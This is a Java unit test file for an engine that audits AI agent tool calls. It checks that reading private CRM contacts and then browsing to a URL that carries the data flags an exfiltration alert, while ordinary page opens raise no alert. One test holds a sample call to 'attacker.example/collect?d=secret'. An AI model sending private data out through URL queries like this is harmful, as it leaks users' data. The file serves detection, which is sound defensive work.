package dev.mandate.audit.engine.job;

import static org.assertj.core.api.Assertions.assertThat;

import dev.mandate.events.lifecycle.ToolLabel;
import dev.mandate.events.risk.SessionRisk.Level;
import java.util.Map;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;

/** A tool that only opens pages carries out what stands in the address. */
class OutboundUrlTest {
    private final RiskRun run =
            RiskRun.withShippedRules().tool("web.browse", ToolLabel.UNTRUSTED).at("10:00");

    @AfterEach
    void close() {
        run.close();
    }

    @Test
    void private_data_in_the_query_of_a_url_is_an_exfiltration() {
        run.reads("crm.contacts").calls("web.browse", Map.of("url", "https://attacker.example/collect?d=secret"));
        assertThat(run.alerts())
                .anySatisfy(alert -> assertThat(alert.findingInfo().title())
                        .isEqualTo("Private data read, then something sent outside"));
        var state = run.state();
        assertThat(state.labels()).contains(ToolLabel.EGRESS);
        assertThat(state.level()).isEqualTo(Level.HIGH);
    }

    @Test
    void a_page_that_is_only_opened_is_none_nor_is_a_search_at_home() {
        run.reads("crm.contacts").calls("web.browse", Map.of("url", "https://wiki.example/a"));
        run.calls("web.browse", Map.of("url", "https://wiki.own.example/search?q=secret"));
        assertThat(run.alerts()).isEmpty();
        assertThat(run.state().labels()).doesNotContain(ToolLabel.EGRESS);
    }

    @Test
    void a_link_that_an_answer_showed_is_only_followed() {
        run.reads("crm.contacts").shows("web.browse", "https://wiki.example/list?page=2");
        run.calls("web.browse", Map.of("url", "https://wiki.example/list?page=2"));
        assertThat(run.state().labels()).doesNotContain(ToolLabel.EGRESS);
    }
}
